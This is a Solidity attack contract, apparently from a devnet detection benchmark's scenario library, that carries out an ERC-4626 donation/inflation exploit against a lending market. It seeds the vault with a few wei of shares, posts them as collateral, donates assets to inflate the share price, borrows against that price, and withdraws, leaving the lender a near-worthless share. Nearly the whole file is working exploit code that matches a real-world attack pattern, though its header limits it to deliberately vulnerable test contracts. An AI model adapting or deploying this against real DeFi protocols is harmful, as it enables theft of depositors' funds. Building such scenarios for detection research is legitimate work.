// SPDX-License-Identifier: MIT
pragma solidity 0.8.28;

// =====================================================================================
//  ATTACK CONTRACT FOR VIGIL'S SCENARIO LIBRARY ONLY (devnet detection benchmark). It
//  exploits the deliberately vulnerable DonationVault + VaultShareLender. Do not point it at
//  anything else.
// =====================================================================================

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {SafeERC20} from "@openzeppelin/contracts/token/ERC20/utils/SafeERC20.sol";
import {Math} from "@openzeppelin/contracts/utils/math/Math.sol";
import {FlashFunded} from "../common/FlashFunded.sol";
import {DonationVault} from "../victims/DonationVault.sol";
import {VaultShareLender} from "../victims/VaultShareLender.sol";

/// @title DonationVaultAttacker
/// @notice Pattern 6 (ERC-4626 inflation against a lender, Hundred / Sonne shape). Needs the
/// vault empty when the position is opened. Optionally in a first transaction (`prepare`, own
/// capital, e.g. right after the vault is listed) or else inside the funded one: deposit
/// `seedAssets` (2 wei) for 2 shares and post them as collateral. Then, with capital in the asset:
///   1. donate `donation` to the vault (each share is now worth about donation / 2);
///   2. borrow what ONE share supports at that price (capped by the lender's liquidity);
///   3. withdraw all but 1 wei of the shares' value through the lender: the vault burns one share
///      (rounded down) and the lender keeps one share now worth ~1 wei.
/// Capital needed: donation (+ seedAssets). Profit (asset) to the owner.
contract DonationVaultAttacker is FlashFunded {
    using SafeERC20 for IERC20;

    /// @param lender Target lender (its vault is read from it).
    /// @param seedAssets Assets deposited for the first shares (0 if `prepare` did it; else >= 2).
    /// @param donation Assets transferred straight to the vault.
    struct Params {
        VaultShareLender lender;
        uint256 seedAssets;
        uint256 donation;
    }

    /// @notice First-transaction variant: becomes the vault's first depositor with this
    /// contract's own `seedAssets` and posts the shares as collateral.
    /// @return shares Shares posted.
    function prepare(VaultShareLender lender, uint256 seedAssets) external onlyOwner returns (uint256 shares) {
        shares = _open(lender, seedAssets);
    }

    /// @notice Runs the exploit with `funding` (token = the vault's asset).
    /// @return profit Assets gained (sent to the owner).
    function execute(Funding calldata funding, Params calldata p) external onlyOwner returns (uint256 profit) {
        profit = _fund(funding, abi.encode(p));
        _sweep(funding.token);
    }

    function _exploit(uint256, bytes memory data) internal override {
        Params memory p = abi.decode(data, (Params));
        VaultShareLender lender = p.lender;
        DonationVault vault = lender.vault();
        if (p.seedAssets != 0) _open(lender, p.seedAssets);

        vault.asset().safeTransfer(address(vault), p.donation);

        uint256 shares = lender.collateralOf(address(this));
        uint256 pull = vault.convertToAssets(shares) - 1;
        uint256 kept = shares - vault.previewWithdraw(pull);
        uint256 limit = (Math.mulDiv(kept, vault.pricePerShare(), 1e18) * lender.ltvBps()) / 10_000;
        lender.borrow(Math.min(limit, lender.liquidity()));
        lender.withdrawCollateralAssets(pull);
    }

    function _open(VaultShareLender lender, uint256 seedAssets) internal returns (uint256 shares) {
        DonationVault vault = lender.vault();
        vault.asset().forceApprove(address(vault), seedAssets);
        shares = vault.deposit(seedAssets, address(this));
        IERC20(address(vault)).forceApprove(address(lender), shares);
        lender.depositCollateral(shares);
    }
}
